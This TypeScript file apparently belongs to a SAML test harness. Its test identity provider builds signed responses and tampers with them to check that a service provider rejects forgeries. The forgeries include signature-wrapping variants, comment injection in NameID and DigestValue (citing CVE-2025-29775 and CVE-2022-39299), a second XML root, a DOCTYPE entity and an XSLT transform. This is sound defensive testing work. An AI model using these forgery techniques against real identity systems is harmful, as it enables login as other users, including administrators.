// Builds the SAML Response the test IdP posts back: samlify's own login-response template, signed
// by samlify's signer (xml-crypto, exclusive c14n, RSA-SHA256, the certificate in KeyInfo), exactly
// as samlify's IdentityProvider.createLoginResponse does it. The steps are spelled out here rather
// than left to createLoginResponse because the attacks need to act between them: a comment or a
// second AudienceRestriction goes in before signing, wrapping, extra roots and the edits of the
// signature itself (a comment in DigestValue, an XSLT transform signed afresh) after, a second
// Reference in the signing, and "unsigned" skips signing altogether, which createLoginResponse
// cannot do.
import { randomUUID, sign as signBytes } from 'node:crypto';
import type { KeyPair } from './keys.js';
import { samlify } from './samlify.js';
import { canonicalSignedInfo } from './xml-crypto.js';

const { SamlLib, Constants } = samlify;

/** The attacks the harness can mount; see `TAMPERS` for what each one does. */
export type Tamper =
  | 'unsigned'
  | 'attacker-key'
  | 'wrap-sibling'
  | 'wrap-extensions'
  | 'wrap-object'
  | 'comment-in-nameid'
  | 'wrong-audience'
  | 'extra-audience-restriction'
  | 'expired'
  | 'not-yet-valid'
  | 'unknown-in-response-to'
  | 'unsolicited'
  | 'other-acs'
  | 'wrong-issuer'
  | 'doctype'
  | 'two-roots'
  | 'comment-in-digest'
  | 'two-references'
  | 'xslt-transform';

/** The NameID of the forged assertion in the wrapping attacks and of the edited one under a
 *  comment in DigestValue: it must never sign in. */
export const FORGED_NAME_ID = 'admin@corp.test';
/** What the comment attack turns the NameID into: `<nameId><!---->.evil.test`. */
export const COMMENT_SUFFIX = '.evil.test';
/** The XSLT transform's algorithm (XML-DSig §6.6.5), which SAML Core §5.4.4 leaves out. */
export const XSLT_TRANSFORM = 'http://www.w3.org/TR/1999/REC-xslt-19991116';
const EXC_C14N_TRANSFORM = '<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>';

/** Everything that goes into one response, resolved (defaults filled in, tamper applied). */
export interface ResponseFields {
  issuer: string;
  nameId: string;
  attributes: Readonly<Record<string, string | readonly string[]>>;
  audience: string;
  destination: string;
  recipient: string;
  /** null: no InResponseTo anywhere (an unsolicited response) */
  inResponseTo: string | null;
  issueInstant: Date;
  notBefore: Date;
  notOnOrAfter: Date;
  /** null: not signed */
  assertionKey: KeyPair | null;
  responseKey: KeyPair | null;
  tamper: Tamper | undefined;
  /** the References' transforms (algorithm URIs); undefined: samlify's default */
  transforms?: readonly string[] | undefined;
}

export interface BuiltResponse {
  xml: string;
  responseId: string;
  assertionId: string;
}

const ASSERTION_XPATH = "/*[local-name(.)='Response']/*[local-name(.)='Assertion']";

export function buildResponse(f: ResponseFields): BuiltResponse {
  const responseId = newId();
  const assertionId = newId();
  let nameId = escapeXml(f.nameId);
  // Inserted before signing, as an IdP holding an account named "alice@corp.test.evil.test" would
  // sign it: exclusive c14n drops comments, so the signature covers the text without it and stays
  // valid whether the comment was there at signing or added later. An SP that reads only the first
  // text node sees "alice@corp.test" (the saml2-js advisory GHSA-5p5w-j3g7-w4wv).
  if (f.tamper === 'comment-in-nameid') nameId = `${nameId}<!---->${escapeXml(COMMENT_SUFFIX)}`;
  let xml = render(f, responseId, assertionId, nameId);
  // Signed as it stands, as an IdP would sign an assertion meant for two SPs at once: every
  // AudienceRestriction must name this SP (SAML Core §2.5.1.4), and the second names another.
  if (f.tamper === 'extra-audience-restriction') {
    const other = new URL('/sso/saml/another-connection/metadata', f.audience).href;
    xml = xml.replace(
      '</saml:AudienceRestriction>',
      () => `</saml:AudienceRestriction><saml:AudienceRestriction><saml:Audience>${escapeXml(other)}</saml:Audience></saml:AudienceRestriction>`,
    );
  }

  if (f.assertionKey) xml = sign(xml, f.assertionKey, f.tamper === 'two-references' ? 'assertion and response' : 'assertion', f.transforms);
  // The wrapping attacks and the comment in DigestValue change what the IdP signed, which breaks
  // a signature over the whole response; the attacker drops that signature, leaving only the
  // assertion's to check. The other attacks on the assertion's signature come from an IdP that
  // signs the assertion only (as Entra ID does): a valid signature over the Response would
  // stand on its own, whatever the assertion's says.
  const assertionSignatureOnly: (Tamper | undefined)[] = [
    'wrap-sibling',
    'wrap-extensions',
    'wrap-object',
    'comment-in-digest',
    'two-references',
    'xslt-transform',
  ];
  if (f.responseKey && !assertionSignatureOnly.includes(f.tamper)) xml = sign(xml, f.responseKey, 'response', f.transforms);

  switch (f.tamper) {
    case 'wrap-sibling': {
      // the forged assertion first, where a careless SP looks; the genuine signed one after it
      const forged = forgedAssertion(f, newId());
      xml = xml.replace('<saml:Assertion ', () => `${forged}<saml:Assertion `);
      break;
    }
    case 'wrap-extensions': {
      // XSW: the signed assertion moved into <samlp:Extensions> (where its signature still
      // verifies), and in its place a forged one carrying the same ID, so a lookup by the
      // signature's Reference URI can land on either
      const genuine = assertionOf(xml);
      const forged = forgedAssertion(f, assertionId);
      xml = xml.replace(genuine, () => forged).replace('<samlp:Status>', () => `<samlp:Extensions>${genuine}</samlp:Extensions><samlp:Status>`);
      break;
    }
    case 'wrap-object': {
      // XSW, the <ds:Object> variants: the signature moved into a forged assertion that carries
      // the genuine one's ID, the genuine assertion (without its signature, which its digest
      // leaves out) inside the signature's <ds:Object>, where the signature still verifies
      const genuine = assertionOf(xml);
      const signature = /<ds:Signature [\s\S]*<\/ds:Signature>/.exec(genuine)?.[0];
      if (!signature) throw new Error('wrap-object: the assertion is not signed');
      const wrapping = signature.replace(/<\/ds:Signature>$/, () => `<ds:Object>${genuine.replace(signature, '')}</ds:Object></ds:Signature>`);
      const forged = forgedAssertion(f, assertionId).replace('</saml:Issuer>', () => `</saml:Issuer>${wrapping}`);
      xml = xml.replace(genuine, () => forged);
      break;
    }
    case 'doctype':
      // an internal subset with an entity: the start of every XXE and entity-expansion attack
      xml = `<!DOCTYPE samlp:Response [<!ENTITY idp "test">]>${xml}`;
      break;
    case 'two-roots':
      // CVE-2022-39299: the signed document followed by a second root carrying a forged assertion
      xml = `${xml}${forgedAssertion(f, newId())}`;
      break;
    case 'comment-in-digest': {
      // CVE-2025-29775: the attacker turns the signed assertion's NameID into FORGED_NAME_ID and
      // puts the forged assertion's digest in a comment before the signed one:
      // <ds:DigestValue><!--forged-->signed</ds:DigestValue>. The signature over SignedInfo still
      // verifies (exclusive c14n drops the comment); xml-crypto before 6.0.1 checked the
      // reference against the comment's text, and so took the forged assertion as signed.
      const forged = xml.replace(`>${nameId}</saml:NameID>`, () => `>${escapeXml(FORGED_NAME_ID)}</saml:NameID>`);
      if (forged === xml) throw new Error('comment-in-digest: the NameID was not found');
      const digest = digestOf(forged, keyFor(f));
      xml = forged.replace(
        /<ds:DigestValue>([^<]+)<\/ds:DigestValue>/,
        (_, signed: string) => `<ds:DigestValue><!--${digest}-->${signed}</ds:DigestValue>`,
      );
      break;
    }
    case 'xslt-transform':
      // The IdP's key signs a Reference whose transforms are enveloped-signature then XSLT (an
      // identity stylesheet) in place of exclusive c14n. The digest is what exclusive c14n gives,
      // so a verifier that skipped the XSLT step would find it right; one that runs it runs
      // whatever stylesheet the response brings (the libxmlsec DoS of item 77).
      xml = resignSignedInfo(xml, keyFor(f), (signedInfo) => {
        if (!signedInfo.includes(EXC_C14N_TRANSFORM)) throw new Error('xslt-transform: no exclusive c14n transform to replace');
        return signedInfo.replace(EXC_C14N_TRANSFORM, () => `<ds:Transform Algorithm="${XSLT_TRANSFORM}">${IDENTITY_STYLESHEET}</ds:Transform>`);
      });
      break;
  }
  return { xml, responseId, assertionId };
}

const IDENTITY_STYLESHEET =
  '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="."/></xsl:template></xsl:stylesheet>';

function keyFor(f: ResponseFields): KeyPair {
  if (!f.assertionKey) throw new Error(`${f.tamper}: needs a signed assertion`);
  return f.assertionKey;
}

/** The digest of the assertion in `xml` as its enveloped signature's Reference computes it: the
 *  assertion signed afresh without its signature (any key would do; a digest takes none). */
function digestOf(xml: string, key: KeyPair): string {
  const unsigned = xml.replace(/<ds:Signature [\s\S]*<\/ds:Signature>/, '');
  const digest = /<ds:DigestValue>([^<]+)<\/ds:DigestValue>/.exec(sign(unsigned, key, 'assertion'))?.[1];
  if (!digest) throw new Error('no DigestValue in the signed assertion');
  return digest;
}

/** `xml` (with one signature) with its SignedInfo edited, and signed again by `key`. */
function resignSignedInfo(xml: string, key: KeyPair, edit: (signedInfo: string) => string): string {
  const edited = xml.replace(/<ds:SignedInfo>[\s\S]*<\/ds:SignedInfo>/, (signedInfo) => edit(signedInfo));
  const value = signBytes('sha256', Buffer.from(canonicalSignedInfo(edited), 'utf8'), key.privateKeyPem).toString('base64');
  return edited.replace(/<ds:SignatureValue>[^<]*<\/ds:SignatureValue>/, () => `<ds:SignatureValue>${value}</ds:SignatureValue>`);
}

function render(f: ResponseFields, responseId: string, assertionId: string, nameIdXml: string): string {
  const tags: Record<string, string | null> = {
    ID: responseId,
    AssertionID: assertionId,
    Destination: f.destination,
    Audience: f.audience,
    SubjectRecipient: f.recipient,
    Issuer: f.issuer,
    IssueInstant: f.issueInstant.toISOString(),
    StatusCode: Constants.StatusCode.Success,
    ConditionsNotBefore: f.notBefore.toISOString(),
    ConditionsNotOnOrAfter: f.notOnOrAfter.toISOString(),
    SubjectConfirmationDataNotOnOrAfter: f.notOnOrAfter.toISOString(),
    NameIDFormat: Constants.namespace.format.emailAddress,
    NameID: NAME_ID_MARK,
    // null drops the attribute from the Response and from SubjectConfirmationData
    InResponseTo: f.inResponseTo,
  };
  // The statements are markup, which replaceTagsByValue would escape: they go in afterwards
  // (through functions, so that a "$" in a value is not read as a replacement pattern).
  return SamlLib.replaceTagsByValue(SamlLib.defaultLoginResponseTemplate.context, tags)
    .replace(NAME_ID_MARK, () => nameIdXml)
    .replace('{AuthnStatement}', () => authnStatement(f.issueInstant))
    .replace('{AttributeStatement}', () => attributeStatement(f.attributes));
}

const NAME_ID_MARK = 'gatehouse-test-idp-nameid-mark';

function authnStatement(at: Date): string {
  const ref = Constants.namespace.authnContextClassRef.passwordProtectedTransport;
  return `<saml:AuthnStatement AuthnInstant="${at.toISOString()}" SessionIndex="${newId()}"><saml:AuthnContext><saml:AuthnContextClassRef>${ref}</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>`;
}

function attributeStatement(attributes: ResponseFields['attributes']): string {
  const entries = Object.entries(attributes);
  if (entries.length === 0) return '';
  const format = 'urn:oasis:names:tc:SAML:2.0:attrname-format:basic';
  const xml = entries.map(([name, value]) => {
    const values = (typeof value === 'string' ? [value] : value).map(
      (v) => `<saml:AttributeValue xsi:type="xs:string">${escapeXml(v)}</saml:AttributeValue>`,
    );
    return `<saml:Attribute Name="${escapeXml(name)}" NameFormat="${format}">${values.join('')}</saml:Attribute>`;
  });
  return `<saml:AttributeStatement>${xml.join('')}</saml:AttributeStatement>`;
}

/** An unsigned assertion for FORGED_NAME_ID, otherwise as valid as the genuine one. */
function forgedAssertion(f: ResponseFields, id: string): string {
  return assertionOf(render({ ...f, nameId: FORGED_NAME_ID }, newId(), id, escapeXml(FORGED_NAME_ID)));
}

/** The one Assertion element of a rendered response, as text. */
function assertionOf(response: string): string {
  const end = '</saml:Assertion>';
  return response.slice(response.indexOf('<saml:Assertion '), response.lastIndexOf(end) + end.length);
}

function sign(xml: string, key: KeyPair, what: 'assertion' | 'response' | 'assertion and response', transforms?: readonly string[]): string {
  const common = {
    ...(transforms ? { transformationAlgorithms: [...transforms] } : {}),
    rawSamlMessage: xml,
    privateKey: key.privateKeyPem,
    signingCert: key.certificateBase64,
    signatureAlgorithm: Constants.algorithms.signature.RSA_SHA256,
    isBase64Output: false as const,
  };
  // The places samlify puts its signatures: right after the element's Issuer (the schema's order).
  // 'assertion and response': the assertion's signature with a second Reference, to the Response
  // (samlify's two References: the element asked for, then the document's root).
  if (what !== 'response')
    return SamlLib.constructSAMLSignature({
      ...common,
      referenceTagXPath: ASSERTION_XPATH,
      ...(what === 'assertion and response' ? { isMessageSigned: true } : {}),
      signatureConfig: { prefix: 'ds', location: { reference: `${ASSERTION_XPATH}/*[local-name(.)='Issuer']`, action: 'after' } },
    });
  return SamlLib.constructSAMLSignature({
    ...common,
    isMessageSigned: true,
    signatureConfig: { prefix: 'ds', location: { reference: "/*[local-name(.)='Response']/*[local-name(.)='Issuer']", action: 'after' } },
  });
}

/** IDs must start with a letter or underscore (xs:ID); samlify's own are "_" + hex as well. */
function newId(): string {
  return `_${randomUUID().replaceAll('-', '')}`;
}

function escapeXml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}
